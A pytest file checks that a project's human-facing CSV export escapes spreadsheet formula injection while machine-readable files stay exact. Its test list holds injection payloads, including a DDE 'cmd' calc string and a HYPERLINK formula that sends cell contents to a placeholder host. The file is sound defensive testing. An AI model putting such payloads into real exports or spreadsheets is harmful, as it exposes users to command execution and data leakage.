"""Names that would run in a spreadsheet: harmless in every CSV for people, exact in files for machines."""

import csv
import io

import pandas as pd
import pytest

from bench.csvs import csv_for_people
from bench.data.lists import csv_line
from bench.report.writers import write_frame

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_is_text_in_a_csv_for_people(text):
    frame = pd.DataFrame({"item": [text, "anna"], "value": [-0.25, 1e-17], text: ["x", "y"]})
    safe = "'" + text.replace("\r", r"\r")
    header, first, second = csv.reader(io.StringIO(csv_for_people(frame).decode(), newline=""))
    assert header == ["item", "value", safe]
    assert first == [safe, "-0.25", "x"]
    assert second == ["anna", "1e-17", "y"]


def test_categories_and_missing_cells_are_written(tmp_path):
    frame = pd.DataFrame({"kind": pd.Categorical(["=a", "b"]), "note": [None, "=c"]})
    assert csv_for_people(frame) == b"kind,note\n'=a,\nb,'=c\n"


def test_files_for_machines_are_exact(tmp_path):
    write_frame(tmp_path / "t", pd.DataFrame({"item": FORMULAS}))
    assert list(pd.read_parquet(tmp_path / "t.parquet")["item"]) == FORMULAS
    assert (tmp_path / "t.csv").read_text().count("'") >= len(FORMULAS)
    assert csv_line(["=1+1"]) == "=1+1\n"
